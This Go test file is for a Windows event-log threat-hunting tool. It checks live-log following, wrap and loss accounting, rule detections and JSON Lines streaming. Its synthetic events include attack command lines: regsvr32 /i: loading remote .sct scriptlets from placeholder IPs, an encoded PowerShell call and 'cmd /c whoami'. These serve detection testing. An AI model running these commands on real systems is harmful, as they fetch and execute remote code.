package triage

import (
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"os"
	"path/filepath"
	"slices"
	"sort"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/evtriage/evtriage/parser"
	"github.com/evtriage/evtriage/rules"
)

// liveFile is a log that a LiveWriter grows in place on disk, as the event
// log service does, remembering what it wrote.
type liveFile struct {
	t       testing.TB
	wrote   *[]time.Time // times of every event written, shared
	path    string
	f       *os.File
	w       *parser.LiveWriter
	written []*parser.Event // record number i+1 is written[i]
}

func newLiveFile(t testing.TB, path string, maxSize int64) *liveFile {
	t.Helper()
	f, err := os.OpenFile(path, os.O_RDWR|os.O_CREATE|os.O_EXCL, 0o600)
	if err != nil {
		t.Fatal(err)
	}
	w, err := parser.NewLiveWriter(f, parser.LiveOptions{MaxSize: maxSize})
	if err != nil {
		t.Fatal(err)
	}
	l := &liveFile{t: t, path: path, f: f, w: w}
	t.Cleanup(func() { f.Close() })
	return l
}

func (l *liveFile) write(evs ...*parser.Event) {
	l.t.Helper()
	for _, e := range evs {
		c := *e
		c.RecordID = 0 // the record number, as in a live log
		if err := l.w.Write(&c); err != nil {
			l.t.Fatal(err)
		}
		c.RecordID = l.w.Records()
		l.written = append(l.written, &c)
		if l.wrote != nil {
			*l.wrote = append(*l.wrote, c.Time)
		}
	}
}

// lostSet collects the record numbers of lost ranges per file.
type lostSet struct {
	mu     sync.Mutex
	ranges []parser.Lost
}

func (s *lostSet) add(l parser.Lost) {
	s.mu.Lock()
	defer s.mu.Unlock()
	s.ranges = append(s.ranges, l)
}

func (s *lostSet) has(rec uint64) bool {
	s.mu.Lock()
	defer s.mu.Unlock()
	for _, l := range s.ranges {
		if rec >= l.First && rec <= l.Last {
			return true
		}
	}
	return false
}

func (s *lostSet) count() uint64 {
	s.mu.Lock()
	defer s.mu.Unlock()
	var n uint64
	for _, l := range s.ranges {
		n += l.Count()
	}
	return n
}

// testClock is a clock tests move by hand.
type testClock struct{ now time.Time }

func (c *testClock) Now() time.Time { return c.now }

// findingID names a finding by what it is about, whatever file the event
// was read from: rule, host, event id, record id and time (correlations by
// their group and window instead).
func findingID(f *Finding) string {
	ev := f.Event.Event
	s := fmt.Sprintf("%s %s %d#%d %s", f.Rule.Title, ev.Computer, ev.EventID, ev.RecordID, ev.Time.Format(time.RFC3339Nano))
	if c := f.Correlation; c != nil {
		s += fmt.Sprintf(" [%s] %d %s–%s", strings.Join(c.Group, ","), c.Count, c.Start.Format(time.RFC3339), c.End.Format(time.RFC3339))
	}
	return s
}

func findingIDs(fs []*Finding) []string {
	out := make([]string, 0, len(fs))
	for _, f := range fs {
		out = append(out, findingID(f))
	}
	sort.Strings(out)
	return out
}

// staticHunt hunts the given logs as a normal load does: each is written
// as a closed file holding the events listed.
func staticHunt(t *testing.T, opts Options, logs [][]*parser.Event) *Result {
	t.Helper()
	dir := t.TempDir()
	h := NewHunter(opts)
	for i, evs := range logs {
		p := filepath.Join(dir, fmt.Sprintf("static%d.evtx", i))
		writeLog(t, p, evs)
		if err := h.AddFile(context.Background(), p, nil); err != nil {
			t.Fatal(err)
		}
	}
	return h.Finish()
}

// followRules is the built-in pack with a correlation: three regsvr32
// starts of one user within a minute (corrRepeatedRule).
func followRules(t *testing.T) *rules.Set {
	t.Helper()
	dir := t.TempDir()
	docs := []string{corrStartRule, corrRepeatedRule}
	for i, d := range docs {
		if err := os.WriteFile(filepath.Join(dir, fmt.Sprintf("r%d.yml", i)), []byte(d), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	set := rules.Load(rules.LoadOptions{Paths: []string{dir}})
	if rj := set.Rejected(); len(rj) > 0 {
		t.Fatalf("rejected: %+v", rj)
	}
	return set
}

// filler returns n background events from second s on: notepad starting
// and exiting, svchost connecting out.
func filler(s, n int) []*parser.Event {
	var out []*parser.Event
	for i := range n {
		g := 100000 + s*10 + i
		when := at(s).Add(time.Duration(i) * time.Millisecond)
		switch i % 3 {
		case 0:
			out = append(out, s1("WS1", 0, when, g, 4000+i%1000, `C:\Windows\System32\notepad.exe`, 2, 1002, `C:\Windows\explorer.exe`))
		case 1:
			out = append(out, s5("WS1", 0, when, g-1, 4000+(i-1)%1000))
		default:
			out = append(out, ev(sysmonCh, 3, "WS1", 0, when, "ProcessGuid", guid(3), "ProcessId", "1003",
				"Image", `C:\Windows\System32\svchost.exe`, "DestinationIp", "192.0.2.1", "DestinationPort", "443"))
		}
	}
	return out
}

// TestFollowerHunts follows a folder whose logs grow in place, wrap, are
// replaced and appear, stepping the follower as a poll loop would: each
// stage's findings are reported in that stage's updates, once; every
// record is delivered once or counted as lost with its record ids; no
// torn chunk is reported; and the last Result holds the findings a normal
// hunt of the delivered events gives, correlations and tree rules
// included.
func TestFollowerHunts(t *testing.T) {
	modes := []struct {
		name    string
		refresh time.Duration
		opts    Options
	}{
		{"as the screen follows", time.Second, Options{}},
		{"as hunt follows", 0, Options{WrittenOnly: true, NoActivity: true}},
	}
	for _, mode := range modes {
		t.Run(mode.name, func(t *testing.T) { testFollowerHunts(t, mode.refresh, mode.opts) })
	}
}

func testFollowerHunts(t *testing.T, refresh time.Duration, opts Options) {
	const (
		seed   = "Regsvr32.EXE Calling of DllRegisterServer Export Function Implicitly"
		squibl = "Regsvr32 Scriptlet Loading from a URL (Squiblydoo)"
		jabber = `C:\ProgramData\jabber.exe`
		regsvr = "Microsoft(C) Register Server"
		ring   = 4096 + 4*65536 // four chunks: the log wraps
		alice  = `WS1\alice`
	)
	set := followRules(t)
	dir := t.TempDir()
	clk := &testClock{now: t0}
	lost := &lostSet{}
	var updates []FollowUpdate
	var notes []string
	opts.Rules = set
	h := NewHunter(opts)
	f := NewFollower(h, []string{dir}, FollowOptions{Refresh: refresh, Now: clk.Now,
		Parser:   parser.FollowOptions{OnLost: lost.add},
		OnUpdate: func(u FollowUpdate) { updates = append(updates, u) },
		OnNote:   func(s string) { notes = append(notes, s) }})
	defer f.Close()
	ctx := context.Background()
	var wrote []time.Time
	live := func(name string, maxSize int64) *liveFile {
		l := newLiveFile(t, filepath.Join(dir, name), maxSize)
		l.wrote = &wrote
		return l
	}
	a := live("a.evtx", ring)
	var gens []*liveFile // every log written, in order (a replaced file's generations apart)
	gens = append(gens, a)
	regsvr32 := func(rec, s, g int, cmdline string) *parser.Event {
		e := regStart(uint64(rec), s, g, alice)
		for i := range e.Fields {
			if e.Fields[i].Name == "CommandLine" {
				e.Fields[i].Value = cmdline
			}
		}
		return e
	}
	step := func(n int) {
		for range n {
			clk.now = clk.now.Add(DefaultPoll)
			if err := f.Step(ctx); err != nil {
				t.Fatal(err)
			}
		}
	}
	type stage struct {
		name string
		do   func()
		// want lists findings (by rule title) the stage's updates must
		// report as new, among those of the built-in pack; every new
		// finding must be about an event of the stage; quiet stages have
		// none.
		want  []string
		quiet bool
	}
	var b *liveFile
	stages := []stage{
		{"background only", func() { a.write(filler(0, 50)...) }, nil, true},
		{"Squiblydoo from explorer", func() {
			a.write(regsvr32(0, 60, 10, `regsvr32 /s /n /u /i:http://203.0.113.7/a.sct scrobj.dll`))
		}, []string{squibl}, false},
		{"renamed regsvr32", func() {
			a.write(s1("WS1", 0, at(65), 20, 0x1a2c, jabber, 2, 1002, `C:\Windows\explorer.exe`, "Description", regsvr))
		}, nil, false},
		{"its child: a tree rule", func() {
			a.write(s1("WS1", 0, at(66), 21, 900, `C:\Windows\System32\cmd.exe`, 20, 0x1a2c, jabber))
		}, []string{"Child Process of a Renamed Regsvr32"}, false},
		{"two more starts within the minute: the correlation", func() {
			a.write(regsvr32(0, 70, 11, `regsvr32 /s a.dll`), regsvr32(0, 80, 12, `regsvr32 /s b.dll`))
		}, []string{seed, seed, "repeated regsvr32"}, false},
		{"the log wraps three times, followed closely", func() {
			for i := range 60 {
				a.write(filler(100+i, 50)...)
				step(1)
			}
			if !a.w.Wrapped() {
				t.Fatal("the log did not wrap")
			}
		}, nil, true},
		{"a regsvr32 after the wrap", func() {
			a.write(regsvr32(0, 200, 13, `regsvr32 /s /i:http://198.51.100.9/x.sct scrobj.dll`))
		}, []string{squibl}, false},
		{"a burst larger than the ring while not polled", func() {
			a.write(filler(300, 4000)...)
			a.write(regsvr32(0, 400, 14, `regsvr32 /s c.dll`))
		}, []string{seed}, false},
		{"the log is cleared: a new file under the same name", func() {
			if err := os.Remove(a.path); err != nil {
				t.Fatal(err)
			}
			a = live("a.evtx", ring)
			gens = append(gens, a)
			a.write(filler(500, 10)...)
			a.write(regsvr32(0, 510, 15, `regsvr32 /s d.dll`))
		}, []string{seed}, false},
		{"a new log appears in the folder", func() {
			b = live("b.evtx", 0)
			gens = append(gens, b)
			b.write(regsvr32(0, 600, 16, `regsvr32 /s e.dll`))
			clk.now = clk.now.Add(2 * time.Second) // the folder is listed again
		}, []string{seed}, false},
	}
	step(1)
	for _, st := range stages {
		before := len(updates)
		first := len(wrote)
		st.do()
		step(3)
		stageEvents := map[time.Time]bool{}
		for _, w := range wrote[first:] {
			stageEvents[w] = true
		}
		var got []string
		for _, u := range updates[before:] {
			for _, fd := range u.New {
				got = append(got, fd.Rule.Title)
				if !stageEvents[fd.Event.Event.Time] {
					t.Errorf("%s: new finding %s is about an event of another stage", st.name, findingID(fd))
				}
			}
		}
		if !containsAll(got, st.want) || st.want == nil && len(got) > 0 && st.quiet {
			t.Errorf("%s: new findings %q, want %q among them", st.name, got, st.want)
		}
	}
	f.Update(ctx)
	st := f.Status()
	res := h.Result()

	// Every record written was delivered once or counted as lost.
	var written int
	for _, g := range gens {
		written += len(g.written)
	}
	if st.Lost == 0 || st.Lost != lost.count() {
		t.Errorf("lost %d, the ranges reported %d: the burst should have lost records", st.Lost, lost.count())
	}
	if uint64(st.Events)+st.Lost != uint64(written) || res.Events != st.Events || res.Duplicates != 0 {
		t.Errorf("delivered %d + lost %d != written %d; events %d, duplicates %d", st.Events, st.Lost, written, res.Events, res.Duplicates)
	}
	if st.Files != 2 || st.Replaced != 1 || len(res.Sources) != 3 {
		t.Errorf("files %d replaced %d sources %d: %+v", st.Files, st.Replaced, len(res.Sources), res.Sources)
	}
	var lostProblems int
	for _, s := range res.Sources {
		for _, p := range s.Problems {
			if !errors.Is(p.Err, ErrLost) {
				t.Errorf("%s: problem %v (a torn chunk reported?)", s.Path, p)
				continue
			}
			lostProblems++
			if !strings.Contains(p.String(), "record ids") || strings.Contains(p.String(), "offset") {
				t.Errorf("lost problem reads %q", p)
			}
		}
	}
	if lostProblems == 0 || lostProblems != f.Status().Problems {
		t.Errorf("%d lost ranges among the problems, status %d", lostProblems, f.Status().Problems)
	}

	// The findings reported, once each, are those of the last Result, and
	// those of a normal hunt of the records delivered.
	var reported []*Finding
	for _, u := range updates {
		reported = append(reported, u.New...)
	}
	if got, want := findingIDs(reported), findingIDs(res.Findings); !slices.Equal(got, want) {
		t.Errorf("reported\n%s\nthe last Result has\n%s", strings.Join(got, "\n"), strings.Join(want, "\n"))
	}
	var logs [][]*parser.Event
	for gi, g := range gens {
		var evs []*parser.Event
		for _, e := range g.written {
			if gi == 0 && lost.has(e.RecordID) {
				continue
			}
			evs = append(evs, e)
		}
		logs = append(logs, evs)
	}
	static := staticHunt(t, opts, logs)
	if got, want := findingIDs(res.Findings), findingIDs(static.Findings); !slices.Equal(got, want) {
		t.Errorf("followed\n%s\nnormal hunt\n%s", strings.Join(got, "\n"), strings.Join(want, "\n"))
	}
	if len(res.Processes) != len(static.Processes) {
		t.Errorf("followed: %d processes, normal hunt %d", len(res.Processes), len(static.Processes))
	}
	for _, want := range []string{"a.evtx: replaced", "b.evtx: following (new log)", "were overwritten before they were read"} {
		if !slices.ContainsFunc(notes, func(n string) bool { return strings.Contains(n, want) }) {
			t.Errorf("no note says %q: %q", want, notes)
		}
	}
}

// containsAll reports whether got holds every element of want (as a
// multiset).
func containsAll(got, want []string) bool {
	left := slices.Clone(got)
	for _, w := range want {
		i := slices.Index(left, w)
		if i < 0 {
			return false
		}
		left = slices.Delete(left, i, i+1)
	}
	return true
}

// TestFollowerRacesWriter runs the follower's poll loop while a writer
// grows and wraps the log as fast as it can: every record is delivered
// once or counted as lost, no torn chunk is reported as a problem, and the
// findings are those of a normal hunt of the records delivered.
func TestFollowerRacesWriter(t *testing.T) {
	set := builtin(t)
	dir := t.TempDir()
	lf := newLiveFile(t, filepath.Join(dir, "Sysmon.evtx"), 4096+6*65536)
	var evs []*parser.Event
	for i := range 40 {
		evs = append(evs, filler(i*10, 60)...)
		r := regStart(0, i*10+5, 1000+i, `WS1\bob`)
		for j := range r.Fields {
			if r.Fields[j].Name == "CommandLine" {
				r.Fields[j].Value = fmt.Sprintf(`regsvr32 /s /i:http://203.0.113.%d/a.sct scrobj.dll`, i)
			}
		}
		evs = append(evs, r)
	}
	lost := &lostSet{}
	opts := Options{Rules: set, WrittenOnly: true, NoActivity: true}
	h := NewHunter(opts)
	caught := make(chan struct{})
	var once sync.Once
	var reported []*Finding
	f := NewFollower(h, []string{lf.path}, FollowOptions{Poll: time.Millisecond,
		Parser: parser.FollowOptions{OnLost: lost.add},
		OnUpdate: func(u FollowUpdate) {
			reported = append(reported, u.New...)
			if u.Status.Events+int(u.Status.Lost) == len(evs) {
				once.Do(func() { close(caught) })
			}
		}})
	defer f.Close()
	ctx, cancel := context.WithCancel(context.Background())
	done := make(chan error)
	go func() { done <- f.Run(ctx) }()
	for i, e := range evs {
		lf.write(e)
		if i%7 == 0 {
			time.Sleep(50 * time.Microsecond) // let the follower in now and then
		}
	}
	<-caught
	cancel()
	if err := <-done; !errors.Is(err, context.Canceled) {
		t.Fatal(err)
	}
	f.Update(context.Background())
	res := h.Result()
	st := f.Status()
	if uint64(st.Events)+st.Lost != uint64(len(evs)) || st.Lost != lost.count() || res.Duplicates != 0 {
		t.Errorf("delivered %d, lost %d (ranges: %d), written %d, duplicates %d", st.Events, st.Lost, lost.count(), len(evs), res.Duplicates)
	}
	for _, s := range res.Sources {
		for _, p := range s.Problems {
			if !errors.Is(p.Err, ErrLost) {
				t.Errorf("problem %v: a torn chunk reported?", p)
			}
		}
	}
	var delivered []*parser.Event
	for _, e := range lf.written {
		if !lost.has(e.RecordID) {
			delivered = append(delivered, e)
		}
	}
	static := staticHunt(t, opts, [][]*parser.Event{delivered})
	if got, want := findingIDs(reported), findingIDs(static.Findings); !slices.Equal(got, want) || len(want) == 0 {
		t.Errorf("reported\n%s\nnormal hunt\n%s", strings.Join(got, "\n"), strings.Join(want, "\n"))
	}
	t.Logf("%d records: %d delivered, %d lost in %d ranges; %d polls; %d findings", len(evs), st.Events, st.Lost, len(lost.ranges), st.Polls, len(reported))
}

// TestStream streams the findings of a followed log as it grows: the lines
// are those of a JSON Lines export (each valid against the schema, the
// head first), every process id a line names was written once, by an
// earlier line (children: by a line of the stream), each finding comes
// once with the lineage the tree gives at the end, and the stream read as
// a baseline judges the same findings seen.
func TestStream(t *testing.T) {
	schema, err := decodeSchema()
	if err != nil {
		t.Fatal(err)
	}
	const jabber = `C:\ProgramData\jabber.exe`
	set := builtin(t)
	dir := t.TempDir()
	lf := newLiveFile(t, filepath.Join(dir, "Sysmon.evtx"), 4096+4*65536)
	opts := Options{Rules: set, WrittenOnly: true, NoActivity: true}
	h := NewHunter(opts)
	var out strings.Builder
	s := NewStream(&out)
	var streamErr error
	var reported int
	f := NewFollower(h, []string{dir}, FollowOptions{OnUpdate: func(u FollowUpdate) {
		if u.Result != nil && streamErr == nil {
			reported += len(u.New)
			streamErr = s.Write(u.Result, u.New)
		}
	}})
	defer f.Close()
	ctx := context.Background()
	f.Scan()
	if err := s.Head(h.Result()); err != nil {
		t.Fatal(err)
	}
	batches := [][]*parser.Event{
		filler(0, 30),
		{s1("WS1", 0, at(40), 10, 1010, sys32Reg, 2, 1002, `C:\Windows\explorer.exe`)},
		{child(0, 0, 11, sys32Cmd, "cmd /c whoami", 10)},
		append(filler(50, 20), child(0, 0, 12, psPath, "powershell -enc AAAA", 10)),
		{s1("WS1", 0, at(60), 20, 0x1a2c, jabber, 2, 1002, `C:\Windows\explorer.exe`, "Description", "Microsoft(C) Register Server")},
		{s1("WS1", 0, at(61), 21, 900, sys32Cmd, 20, 0x1a2c, jabber)},
		filler(70, 2000), // wraps
		{s1("WS1", 0, at(90), 30, 1030, sys32Reg, 21, 900, sys32Cmd)},
	}
	for _, evs := range batches {
		lf.write(evs...)
		if err := f.Step(ctx); err != nil {
			t.Fatal(err)
		}
	}
	f.Update(ctx)
	if streamErr != nil {
		t.Fatal(streamErr)
	}
	res := h.Result()
	if reported == 0 || reported != len(res.Findings) {
		t.Fatalf("%d findings reported, the Result has %d", reported, len(res.Findings))
	}
	lineSchema := map[string]any{"$ref": "#/$defs/line"}
	type line struct {
		Export  json.RawMessage `json:"export"`
		Process *struct {
			ID       int    `json:"id"`
			Image    string `json:"image"`
			Parent   *int   `json:"parent"`
			Children []int  `json:"children"`
		} `json:"process"`
		Finding *struct {
			Rule struct {
				Title string `json:"title"`
			} `json:"rule"`
			Event struct {
				RecordID uint64 `json:"record_id"`
			} `json:"event"`
			Process *int  `json:"process"`
			Lineage []int `json:"lineage"`
		} `json:"finding"`
	}
	images := map[int]string{}
	var children []int
	var got []string
	for n, raw := range strings.Split(strings.TrimSuffix(out.String(), "\n"), "\n") {
		var v map[string]any
		if err := json.Unmarshal([]byte(raw), &v); err != nil {
			t.Fatalf("line %d: %v", n+1, err)
		}
		vd := &validator{root: schema}
		vd.check(lineSchema, v, "$")
		for _, e := range vd.errs {
			t.Errorf("line %d: %s", n+1, e)
		}
		var l line
		if err := json.Unmarshal([]byte(raw), &l); err != nil {
			t.Fatal(err)
		}
		if (n == 0) != (l.Export != nil) {
			t.Errorf("line %d: the head comes first, once: %.80s", n+1, raw)
		}
		known := func(id int) bool { _, ok := images[id]; return ok }
		switch {
		case l.Process != nil:
			p := l.Process
			if known(p.ID) || p.Parent != nil && !known(*p.Parent) {
				t.Errorf("line %d: process %d written twice, or its parent not before it: %s", n+1, p.ID, raw)
			}
			images[p.ID] = p.Image
			children = append(children, p.Children...)
		case l.Finding != nil:
			fd := l.Finding
			var lineage []string
			for _, id := range fd.Lineage {
				if !known(id) {
					t.Errorf("line %d: lineage names process %d, not written before", n+1, id)
				}
				lineage = append(lineage, filepath.Base(strings.ReplaceAll(images[id], `\`, "/")))
			}
			if fd.Process == nil || !known(*fd.Process) {
				t.Errorf("line %d: finding without a process written before: %s", n+1, raw)
			}
			got = append(got, fmt.Sprintf("%s #%d %s", fd.Rule.Title, fd.Event.RecordID, strings.Join(lineage, ">")))
		}
	}
	for _, id := range children {
		if _, ok := images[id]; !ok {
			t.Errorf("a process lists child %d, which the stream never wrote", id)
		}
	}
	var want []string
	for _, fd := range res.Findings {
		var lineage []string
		for _, p := range Lineage(fd.Process) {
			lineage = append(lineage, filepath.Base(strings.ReplaceAll(p.Image, `\`, "/")))
		}
		want = append(want, fmt.Sprintf("%s #%d %s", fd.Rule.Title, fd.Event.Event.RecordID, strings.Join(lineage, ">")))
	}
	sort.Strings(got)
	sort.Strings(want)
	if !slices.Equal(got, want) {
		t.Errorf("streamed\n%s\nthe last Result\n%s", strings.Join(got, "\n"), strings.Join(want, "\n"))
	}

	// Read back as a baseline, the stream makes every finding seen.
	base := filepath.Join(t.TempDir(), "stream.jsonl")
	if err := os.WriteFile(base, []byte(out.String()), 0o600); err != nil {
		t.Fatal(err)
	}
	opts.Baseline = []string{base}
	again := staticHunt(t, opts, [][]*parser.Event{lf.written})
	for _, fd := range again.Findings {
		if fd.New == nil || *fd.New {
			t.Errorf("%s: not judged seen against the stream (new %v)", findingID(fd), fd.New)
		}
	}
	if len(again.Findings) == 0 || again.NotJudged {
		t.Errorf("baseline from the stream: %d findings, not judged %v", len(again.Findings), again.NotJudged)
	}
}
